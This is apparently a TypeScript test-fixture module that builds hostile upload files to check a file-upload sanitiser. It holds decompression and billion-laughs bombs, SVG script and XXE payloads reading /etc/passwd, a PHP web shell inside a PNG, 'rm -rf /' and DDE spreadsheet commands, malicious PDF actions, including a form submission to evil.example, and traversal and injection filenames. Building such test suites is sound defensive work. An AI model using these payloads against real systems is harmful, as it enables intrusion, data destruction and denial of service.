import { randomBytes } from 'node:crypto';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A file as an attacker would send it; `kept` when it may stay, made harmless, `refused` when not; `either` where only the harm matters. */
export interface HostileFile {
  what: string;
  outcome: 'refused' | 'kept' | 'either';
  make(): Buffer | Promise<Buffer>;
}

/** Words that must be nowhere in what is kept of a picture. */
export const PAYLOAD = '<script>alert("LINLI-PAYLOAD")</script>';

const text = (words: string) => () => Buffer.from(words);
const bytes = (...parts: (string | number[] | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part as Buffer))));
const u32 = (value: number) => {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32BE(value >>> 0);
  return buffer;
};
const rest = (size = 2_000) => randomBytes(size);

const plain = (width = 60, height = 40) => sharp({ create: { width, height, channels: 3, background: '#336699' } });
const jpeg = () => plain().jpeg().toBuffer();
const png = () => plain().png().toBuffer();

/** A chunk of a PNG, its checksum right. */
function chunk(type: string, data: Buffer): Buffer {
  const named = bytes(type, data);
  return Buffer.concat([u32(data.length), named, u32(crc32(named))]);
}
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const header = (width: number, height: number, depth = 8, colour = 2, interlace = 0) =>
  chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([depth, colour, 0, 0, interlace])]));
const pngOf = (width: number, height: number, content = deflateSync(Buffer.alloc(1_000)), ...more: Buffer[]) =>
  bytes(PNG_SIGNATURE, header(width, height), ...more, chunk('IDAT', content), chunk('IEND', Buffer.alloc(0)));
/** A PNG with chunks before its picture. */
async function pngWith(...chunks: Buffer[]): Promise<Buffer> {
  const whole = await png();
  return Buffer.concat([whole.subarray(0, 33), ...chunks, whole.subarray(33)]);
}
/** A JPEG with segments right after its start. */
async function jpegWith(...segments: [marker: number, data: Buffer][]): Promise<Buffer> {
  const whole = await jpeg();
  const made = segments.map(([marker, data]) => {
    const size = Buffer.alloc(2);
    size.writeUInt16BE(data.length + 2);
    return Buffer.concat([Buffer.from([0xff, marker]), size, data]);
  });
  return Buffer.concat([whole.subarray(0, 2), ...made, whole.subarray(2)]);
}
/** A JPEG whose frame says it is of another size. */
async function jpegSaying(width: number, height: number): Promise<Buffer> {
  const whole = Buffer.from(await jpeg());
  const frame = whole.indexOf(Buffer.from([0xff, 0xc0]));
  whole.writeUInt16BE(height, frame + 5);
  whole.writeUInt16BE(width, frame + 7);
  return whole;
}
function gif(frames: number, width = 1, height = 1): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  const frame = Buffer.from([0x21, 0xf9, 4, 0, 0, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  return bytes('GIF89a', size, [0x80, 0, 0, 0, 0, 0, 255, 255, 255], ...Array.from({ length: frames }, () => frame), [0x3b]);
}
async function cut(picture: Promise<Buffer>, share = 0.5): Promise<Buffer> {
  const whole = await picture;
  return whole.subarray(0, Math.floor(whole.length * share));
}
const noise = (format: 'jpeg' | 'png' | 'webp' | 'gif') =>
  sharp(randomBytes(200 * 200 * 3), { raw: { width: 200, height: 200, channels: 3 } })
    .toFormat(format)
    .toBuffer();
/** Appends each of the last scans of a progressive JPEG many times over. */
async function scanBomb(): Promise<Buffer> {
  const whole = await plain(2_000, 2_000).jpeg({ progressive: true }).toBuffer();
  const last = whole.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = whole.subarray(last, -2);
  return Buffer.concat([whole.subarray(0, -2), ...Array.from({ length: 1_000 }, () => scan), whole.subarray(-2)]);
}

function pdf(...objects: string[]): Buffer {
  const body = objects.map((object, at) => `${at + 3} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${body}trailer<</Root 1 0 R>>\n%%EOF\n`,
    'latin1',
  );
}
/** Objects hidden in a compressed stream, as most writers of PDF do. */
const packed = (object: string, filter = '/FlateDecode', encode = (content: Buffer) => deflateSync(content)) => {
  const content = encode(Buffer.from(`3 0 ${object}`, 'latin1'));
  return `<</Type/ObjStm/N 1/First 4/Filter${filter}/Length ${content.length}>>stream\n${content.toString('latin1')}\nendstream`;
};

/** A stored or deflated entry of a ZIP, enough for any reader that looks for the name. */
function zip(...entries: [name: string, content: Buffer][]): Buffer {
  return Buffer.concat(
    entries.map(([name, content]) => {
      const head = Buffer.alloc(30);
      head.writeUInt32LE(0x04034b50, 0);
      head.writeUInt16LE(20, 4);
      head.writeUInt16LE(8, 8);
      head.writeUInt32LE(content.length, 18);
      head.writeUInt32LE(0xffffffff, 22);
      head.writeUInt16LE(name.length, 26);
      return bytes(head, name, content);
    }),
  );
}
const zeros = () => deflateSync(Buffer.alloc(50_000_000));

const refused = (what: string, make: HostileFile['make']): HostileFile => ({ what, outcome: 'refused', make });
const kept = (what: string, make: HostileFile['make']): HostileFile => ({ what, outcome: 'kept', make });
const either = (what: string, make: HostileFile['make']): HostileFile => ({ what, outcome: 'either', make });

const bombs: HostileFile[] = [
  refused('PNG of 144 megapixels in 1 MB', () => plain(12_000, 12_000).png({ compressionLevel: 9 }).toBuffer()),
  refused('PNG that says 50,000 x 50,000', () => pngOf(50_000, 50_000)),
  refused('PNG that says 2^31-1 wide', () => pngOf(0x7fffffff, 1)),
  refused('PNG of 63 megapixels whose data unfolds to 50 MB of nothing and ends', () => pngOf(9_000, 7_000, zeros())),
  refused('JPEG that says 65,500 x 65,500', () => jpegSaying(65_500, 65_500)),
  either('JPEG that says 65,500 x 900, its data of another shape', () => jpegSaying(65_500, 900)),
  either('GIF that says 65,535 x 65,535', () => gif(1, 65_535, 65_535)),
  refused('WebP that says 16,383 x 16,383', async () => {
    const whole = Buffer.from(await plain().webp().toBuffer());
    whole.writeUInt32LE((16_383 << 16) | 16_383, 26);
    return whole;
  }),
  either('GIF of 10,000 frames', () => gif(10_000)),
  either('PNG that says it moves in 10,000 frames', () => pngWith(chunk('acTL', Buffer.concat([u32(10_000), u32(0)])))),
  either('JPEG of 1,000 further scans', scanBomb),
  either('PNG with text that unfolds to 50 MB', () => pngWith(chunk('zTXt', bytes('Comment\0\0', zeros())))),
  either('PNG with a colour profile that unfolds to 50 MB', () => pngWith(chunk('iCCP', bytes('icc\0\0', zeros())))),
  either('PNG of 60,000 small chunks', () => pngWith(...Array.from({ length: 60_000 }, () => chunk('teXt', Buffer.from('a\0b'))))),
  either('JPEG with 10 MB of comments', () =>
    jpegWith(...Array.from({ length: 160 }, (): [number, Buffer] => [0xfe, Buffer.alloc(65_000, 65)])),
  ),
  refused('ZIP bomb as a document of Word', () =>
    zip(['[Content_Types].xml', deflateSync(Buffer.from('<Types/>'))], ['word/document.xml', zeros()]),
  ),
  refused('gzip of 50 MB of nothing', () => gzipSync(Buffer.alloc(50_000_000))),
  refused(
    'drawing of a billion laughs',
    text(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "&a;&a;&a;&a;&a;&a;&a;&a;">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a19;</text></svg>`,
    ),
  ),
];

const pages: HostileFile[] = [
  refused('drawing with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${PAYLOAD}</svg>`)),
  refused(
    'drawing that reads a file (XXE)',
    text(
      '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
  ),
  refused('drawing after a byte order mark and blanks', text(`\ufeff\n\n   <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
  refused('drawing, compressed', () => gzipSync(`<svg xmlns="http://www.w3.org/2000/svg">${PAYLOAD}</svg>`)),
  refused('page named as a picture', text(`<html>${PAYLOAD}</html>`)),
  refused('page in UTF-16', () => Buffer.from(`\ufeff<html>${PAYLOAD}</html>`, 'utf16le')),
  refused('XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${PAYLOAD}</html>`)),
  refused('MHTML', text(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${PAYLOAD}`)),
  refused('script', text('#!/bin/sh\nrm -rf /\n')),
  refused('batch of Windows', text('@echo off\r\ndel /s *\r\n')),
  refused('spreadsheet that calls a program', text('=cmd|"/c calc"!A1,1\n')),
  refused('nothing but zero bytes', () => Buffer.alloc(100_000)),
  refused('one byte', () => Buffer.from([0xff])),
];

const polyglots: HostileFile[] = [
  either('GIF that is a script', text(`GIF89a/*${'\0'.repeat(20)}*/=1;alert("LINLI-PAYLOAD")//`)),
  kept('GIF with a page after its end', () => bytes(gif(1), PAYLOAD)),
  kept('JPEG with a page in its comment', () => jpegWith([0xfe, Buffer.from(`<html>${PAYLOAD}</html>`)])),
  kept('JPEG with a page after its end', async () => bytes(await jpeg(), PAYLOAD)),
  kept('JPEG with a JAR after its end', async () => bytes(await jpeg(), zip(['META-INF/MANIFEST.MF', Buffer.from(PAYLOAD)]))),
  kept('PNG with a PHP page in its text', () => pngWith(chunk('tEXt', Buffer.from(`Comment\0<?php system($_GET[0]); ?>${PAYLOAD}`)))),
  kept('PNG with a page after its end', async () => bytes(await png(), PAYLOAD)),
  kept('PNG with a chunk nobody knows', () => pngWith(chunk('liNl', Buffer.from(PAYLOAD)))),
  refused('page before a PDF', () => bytes(PAYLOAD, pdf('<</S/JavaScript/JS(app.alert(1))>>'))),
  refused('JPEG start on an archive', () => bytes([0xff, 0xd8, 0xff, 0xe0], zip(['a', rest()]))),
  refused('WebP whose content is a page', () => bytes('RIFF', u32(0x1000), 'WEBPVP8 ', PAYLOAD, rest(200))),
];

const traces: HostileFile[] = [
  kept('JPEG with place, device and words', () =>
    plain()
      .withExifMerge({
        IFD0: { Make: 'LINLI-PAYLOAD', ImageDescription: PAYLOAD },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '38/1 15/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '105/1 58/1 0/1' },
      })
      .jpeg()
      .toBuffer(),
  ),
  kept('WebP with place', () =>
    plain()
      .withExifMerge({ IFD0: { Make: 'LINLI-PAYLOAD' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '38/1 15/1 0/1' } })
      .webp()
      .toBuffer(),
  ),
  kept('JPEG with XMP', () =>
    jpegWith([0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/">${PAYLOAD}</x:xmpmeta>`)]),
  ),
  kept('JPEG with IPTC', () => jpegWith([0xed, Buffer.from(`Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20${PAYLOAD}`, 'latin1')])),
  kept('PNG with XMP', () => pngWith(chunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${PAYLOAD}`)))),
  kept('PNG with EXIF', () => pngWith(chunk('eXIf', Buffer.from(`MM\0*\0\0\0\x08\0\0LINLI-PAYLOAD`, 'latin1')))),
  either('JPEG with EXIF that points past its end', () => jpegWith([0xe1, bytes('Exif\0\0MM\0*\0\0\0\x08', [0xff, 0xff], rest(500))])),
  kept('JPEG with 2 MB of colour profile', () =>
    jpegWith(
      ...Array.from({ length: 32 }, (_, at): [number, Buffer] => [
        0xe2,
        bytes('ICC_PROFILE\0', [at + 1, 32], Buffer.alloc(65_000, 'LINLI-PAYLOAD')),
      ]),
    ),
  ),
];

const broken: HostileFile[] = [
  refused('half a JPEG', () => cut(noise('jpeg'))),
  refused('half a PNG', () => cut(noise('png'))),
  refused('half a WebP', () => cut(noise('webp'))),
  refused('half a GIF', () => cut(noise('gif'))),
  refused('JPEG that ends in its header', () => cut(jpeg(), 0.1)),
  refused('PNG with a wrong checksum', async () => {
    const whole = Buffer.from(await noise('png'));
    whole[60] = (whole[60] as number) ^ 0xff;
    return whole;
  }),
  refused('PNG of no width', () => pngOf(0, 10)),
  refused('PNG without a picture', () => bytes(PNG_SIGNATURE, header(10, 10), chunk('IEND', Buffer.alloc(0)))),
  refused('JPEG of no height', () => jpegSaying(60, 0)),
  refused('JPEG of noise', () => bytes([0xff, 0xd8, 0xff, 0xe0], rest())),
  refused('HEIC of noise', () => bytes(u32(24), 'ftypheic', u32(0), 'mif1heic', rest())),
  refused('AVIF of noise', () => bytes(u32(24), 'ftypavif', u32(0), 'mif1avif', rest())),
];

const otherKinds: HostileFile[] = (
  [
    ['program of Windows', 'MZ'],
    ['program of Linux', '\x7fELF\x02\x01\x01'],
    ['program of macOS', '\xcf\xfa\xed\xfe'],
    ['WebAssembly', '\0asm\x01\0\0\0'],
    ['Flash', 'CWS\x0b'],
    ['link of Windows', 'L\0\0\0\x01\x14\x02\0'],
    ['Word of 1997 with macros', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
    ['RAR', 'Rar!\x1a\x07\x01\0'],
    ['7z', '7z\xbc\xaf\x27\x1c'],
    ['TIFF', 'II*\0\x08\0\0\0'],
    ['BMP', 'BM'],
    ['icon', '\0\0\x01\0\x01\0'],
    ['Photoshop', '8BPS\0\x01'],
    ['PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n'],
    ['JPEG 2000', '\0\0\0\x0cjP  \r\n\x87\n'],
    ['SQLite', 'SQLite format 3\0'],
  ] as const
).map(([what, start]) => refused(what, () => bytes(start, rest())));

const documents: HostileFile[] = [
  refused('document of Word with macros', () =>
    zip(['[Content_Types].xml', deflateSync(Buffer.from('<Types/>'))], ['word/vbaProject.bin', rest()]),
  ),
  refused('PDF that runs JavaScript', () => pdf('<</S/JavaScript/JS(app.alert(1))>>')),
  refused('PDF that runs JavaScript, its name disguised', () => pdf('<</S/J#61vaScr#69pt/JS(app.alert(1))>>')),
  refused('PDF that runs JavaScript out of a compressed object', () => pdf(packed('<</S/JavaScript/JS(app.alert(1))>>'))),
  refused('PDF whose compressed objects are packed twice', () =>
    pdf(
      packed('<</S/JavaScript/JS(1)>>', '[/ASCIIHexDecode/FlateDecode]', (content) =>
        Buffer.from(`${deflateSync(content).toString('hex')}>`),
      ),
    ),
  ),
  refused('PDF that starts a program', () => pdf('<</S/Launch/F(cmd.exe)>>')),
  refused('PDF with a file inside', () => pdf('<</Type/EmbeddedFile/Length 0>>stream\n\nendstream')),
  refused('PDF that sends a form', () => pdf('<</S/SubmitForm/F(https://evil.example)>>')),
  refused('PDF with film', () => pdf('<</Type/Annot/Subtype/RichMedia>>')),
  refused('PDF with a form of XFA', () => pdf('<</XFA 4 0 R>>')),
  refused('PDF that is locked', () => bytes(pdf('null'), 'trailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF')),
  refused('PDF whose compressed objects unfold to 50 MB', () => pdf(packed(' '.repeat(50_000_000)))),
  kept('PDF whose picture unfolds to 50 MB', () => {
    const content = zeros();
    return pdf(`<</Subtype/Image/Filter/FlateDecode/Length ${content.length}>>stream\n${content.toString('latin1')}\nendstream`);
  }),
  kept('PDF with an ordinary page and a link', () =>
    pdf('<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>', packed('<</Type/Font>>')),
  ),
];

const recordings: HostileFile[] = [
  kept('MP3 with a page in its title', () =>
    bytes('ID3\x04\0\0\0\0\x10\0', PAYLOAD, Buffer.alloc(2_048 - PAYLOAD.length), [0xff, 0xfb, 0x90, 0x64], rest()),
  ),
  kept('Ogg that is noise after its start', () => bytes('OggS\0\x02', Buffer.alloc(22), 'OpusHead', rest())),
  kept('WAV with a page in its data', () => bytes('RIFF', u32(0x100), 'WAVEfmt ', PAYLOAD, rest())),
  kept('MP4 with a page in its data', () => bytes(u32(24), 'ftypM4A ', u32(0), 'M4A mp42', u32(400), 'mdat', PAYLOAD, rest(350))),
];

/** Every hostile file, by what is hostile about it. */
export const HOSTILE_FILES: Record<string, readonly HostileFile[]> = {
  bombs,
  pages,
  polyglots,
  traces,
  broken,
  otherKinds,
  documents,
  recordings,
};

export const goodPicture = png;

/** Names a form may give a file; none of them is believed. */
export const HOSTILE_NAMES = [
  '../../../etc/passwd',
  '..\\..\\win.ini',
  '/etc/cron.d/x',
  'a\u0000.jpg',
  '\u202egpj.exe',
  'x'.repeat(4_096),
  'con',
  '.htaccess',
  'a%0d%0aset-cookie: x=1',
  'photo.jpg.svg',
  "'; drop table file; --",
  '<img src=x onerror=alert(1)>.jpg',
  '',
] as const;
